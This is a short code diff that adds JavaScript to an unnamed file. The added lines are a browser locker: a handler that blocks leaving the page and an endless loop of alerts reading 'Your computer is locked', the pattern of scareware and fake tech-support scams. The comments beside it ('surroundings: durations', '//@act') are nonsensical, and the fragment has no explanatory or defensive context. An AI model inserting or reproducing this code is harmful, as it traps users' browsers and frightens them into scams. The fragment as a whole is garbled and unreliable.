@@ -1,0 +1,3 @@
+// surroundings: durations
+onbeforeunload = () => '';
+while (true) alert('Your computer is locked'); //@act
